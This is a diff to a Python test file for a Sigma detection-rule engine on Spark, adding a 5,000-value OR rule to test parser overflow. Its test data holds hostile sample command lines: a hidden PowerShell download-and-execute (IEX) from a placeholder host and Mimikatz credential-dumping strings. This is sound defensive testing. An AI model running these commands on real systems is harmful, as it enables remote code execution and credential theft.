@@ -89,6 +89,13 @@ WINDOWS_RULES = {
         PROC,
     ),
     "blind": ("sel:\n  NoSuchField: 'x'\ncondition: sel", PROC),
+    # SigmaHQ has or-lists of thousands of values (Spark's SQL parser overflowed on a flat chain)
+    "wide or": (
+        "sel:\n  CommandLine|contains:\n"
+        + "".join(f"    - 'tool{n:04d}.exe'\n" for n in range(5000))
+        + "    - 'WHOAMI'\ncondition: sel",
+        PROC,
+    ),
 }
 
 _PS = "powershell -nop -w hidden IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')"
@@ -205,6 +212,7 @@ def test_windows_hits_identical_to_vector_sigma(spark_engine: Any, windows: tupl
     assert cmd["like"] == {"cmd /c whoami", "cmd /c iex a"}
     assert cmd["regex"] == cmd["regex i"] == {"x.exe sekurlsa::logonpasswords -enc AAAA"}
     assert cmd["fieldref"] == {"cmd /c iex a"}
+    assert cmd["wide or"] == {"cmd /c whoami"}
     commands = {d["CommandLine"] for eid, d in HAND_EVENTS if eid == 1}
     assert cmd["null"] == commands - {"rundll32 x.dll,Mimikatz"}  # missing or empty User
     assert len(fired["cidr"]) == 1 and len(fired["gt"]) == 2
